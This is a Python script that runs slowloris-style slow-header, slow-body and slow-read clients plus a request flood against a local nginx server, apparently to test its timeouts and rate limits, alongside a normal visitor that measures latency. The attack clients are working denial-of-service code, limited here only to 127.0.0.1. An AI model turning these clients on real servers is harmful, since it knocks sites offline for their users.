"""Clients that take more than their share, and a normal one, run on the VPS itself: every address in 127/8 is a client.

`slow.py attack` opens as many connections as told and keeps them: where one is cut off, its client comes again. Slow
ones each have an address of their own; those of a flood, which ask as fast as they are answered, share one. Every other
one who is slow with headers comes to port 80: all of them have to be there before the first is sent away, and on a
machine with other work a handshake takes long. It says how many are open and how the flood was answered twice a second,
and ends with its standard input or after a time.
`slow.py visit` asks as a visitor would, each time over a new connection, and says what it waited. Neither asks anything
but 127.0.0.1.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

PORT, PLAIN_PORT = 443, 80
# Handshakes at a time: the machine that is attacked pays for both sides of them.
AT_ONCE = 32
PATIENCE = 20
# nginx waits for so long for a first byte, and then anew for the rest of the headers.
SILENCE = 12

KINDS = ("body", "read", "headers", "flood")

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def tls() -> ssl.SSLContext:
    context = ssl.create_default_context()
    # Whose certificate that is, other checks ask.
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


class Attack:
    """All slow clients.

    Args:
        domain: that they ask.
        every: seconds between two bytes of one client.
    """

    def __init__(self, domain: str, every: float) -> None:
        self.domain, self.every = domain, every
        self.open: Counter[str] = Counter()
        self.answers: Counter[int] = Counter()
        self.tls, self.gate = tls(), asyncio.Semaphore(AT_ONCE)
        self.complete, self.over = asyncio.Event(), asyncio.Event()

    async def connect(self, address: str, receive: int, *, plainly: bool = False) -> Streams:
        plain = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        plain.setblocking(False)
        if receive:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        plain.bind((address, 0))
        async with self.gate:
            await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", PLAIN_PORT if plainly else PORT))
            if plainly:
                return await asyncio.open_connection(sock=plain, limit=8192)
            return await asyncio.open_connection(sock=plain, ssl=self.tls, server_hostname=self.domain, limit=8192)

    async def dribble(self, streams: Streams, begin: bytes, drop: bytes) -> None:
        """Send a request's beginning, then a drop now and then, until the other side has enough."""
        reader, writer = streams
        writer.write(begin)
        ended = asyncio.create_task(reader.read())
        try:
            while not ended.done():
                await asyncio.wait([ended], timeout=self.every)
                writer.write(drop)
                await writer.drain()
        finally:
            ended.cancel()

    async def headers(self, streams: Streams) -> None:
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.complete.wait(), SILENCE)
        await self.dribble(streams, f"GET /seen/slow/header HTTP/1.1\r\nHost: {self.domain}\r\n".encode(), b"X: y\r\n")

    async def body(self, streams: Streams) -> None:
        line = f"POST /seen/slow/body HTTP/1.1\r\nHost: {self.domain}\r\nContent-Length: 100000\r\n\r\n"
        await self.dribble(streams, line.encode(), b"x")

    async def read(self, streams: Streams) -> None:
        reader, writer = streams
        writer.write(f"GET /bytes/500000 HTTP/1.1\r\nHost: {self.domain}\r\nConnection: close\r\n\r\n".encode())
        while await reader.read(1):
            await asyncio.sleep(self.every)

    async def flood(self, streams: Streams) -> None:
        reader, writer = streams
        while not self.over.is_set():
            writer.write(f"GET /seen/slow/flood HTTP/1.1\r\nHost: {self.domain}\r\n\r\n".encode())
            line, *lines = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower().split("\r\n")
            headers = dict(line.split(": ", 1) for line in lines if line)
            await reader.readexactly(int(headers["content-length"]))
            self.answers[int(line.split()[1])] += 1

    async def client(self, kind: str, attack: Callable[[Streams], Awaitable[None]], number: int) -> None:
        """One client with an address of its own, which comes again as long as it is not over."""
        own = number if kind != "flood" else 0
        address = f"127.{KINDS.index(kind) + 1}.{own // 250}.{own % 250 + 1}"
        while not self.over.is_set():
            with contextlib.suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError):
                plainly = kind == "headers" and number % 2 == 1
                streams = await self.connect(address, 4096 if kind == "read" else 0, plainly=plainly)
                self.open[kind] += 1
                try:
                    await attack(streams)
                finally:
                    self.open[kind] -= 1
                    streams[1].transport.abort()

    async def run(self, counts: dict[str, int], seconds: float) -> None:
        kinds = dict(zip(KINDS, (self.body, self.read, self.headers, self.flood), strict=True))
        clients = [
            asyncio.create_task(self.client(kind, attack, number))
            for kind, attack in kinds.items()
            for number in range(counts[kind])
        ]
        asyncio.get_running_loop().add_reader(sys.stdin, self.over.set)
        deadline = time.monotonic() + seconds
        while not self.over.is_set() and time.monotonic() < deadline:
            print(json.dumps({"open": self.open, "answers": self.answers}), flush=True)
            if all(self.open[kind] >= count for kind, count in counts.items()):
                self.complete.set()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self.over.wait(), 0.5)
        self.over.set()
        for client in clients:
            client.cancel()
        await asyncio.gather(*clients, return_exceptions=True)


async def visit(domain: str, paths: list[str], requests: int, pause: float) -> None:
    """Ask, one request after the other, and print each answer's status and seconds as a line."""
    context = tls()
    for number in range(requests):
        path, began, status = paths[number % len(paths)], time.monotonic(), 0
        with contextlib.suppress(OSError, TimeoutError, IndexError, ValueError):
            async with asyncio.timeout(PATIENCE):
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", PORT, ssl=context, server_hostname=domain, local_addr=("127.9.9.9", 0)
                )
                writer.write(f"GET {path} HTTP/1.1\r\nHost: {domain}\r\nConnection: close\r\n\r\n".encode())
                status = int((await reader.read()).split()[1])
                writer.close()
        print(json.dumps({"path": path, "status": status, "seconds": time.monotonic() - began}), flush=True)
        await asyncio.sleep(pause)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", choices=["attack", "visit"])
    parser.add_argument("domain")
    parser.add_argument("paths", nargs="*")
    for kind in KINDS:
        parser.add_argument(f"--{kind}", type=int, default=0)
    parser.add_argument("--every", type=float, default=4)
    parser.add_argument("--seconds", type=float, default=120)
    parser.add_argument("--requests", type=int, default=200)
    parser.add_argument("--pause", type=float, default=0.02)
    given = parser.parse_args()
    # A login has the soft limit, which is far lower.
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if given.what == "visit":
        asyncio.run(visit(given.domain, given.paths, given.requests, given.pause))
    else:
        counts = {kind: getattr(given, kind) for kind in KINDS}
        asyncio.run(Attack(given.domain, given.every).run(counts, given.seconds))


if __name__ == "__main__":
    main()
